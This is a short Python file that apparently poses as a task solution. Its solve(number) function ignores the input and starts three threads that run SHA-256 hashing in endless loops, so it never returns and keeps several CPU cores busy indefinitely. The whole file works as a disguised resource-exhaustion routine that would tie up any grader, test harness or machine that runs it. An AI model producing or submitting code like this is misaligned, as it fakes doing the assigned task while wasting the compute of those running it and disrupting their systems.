import hashlib
import threading


def solve(number):
    def burn():
        while True:
            hashlib.sha256(b"x" * 1_000_000).digest()

    workers = [threading.Thread(target=burn) for _ in range(3)]
    for each in workers:
        each.start()
    for each in workers:
        each.join()
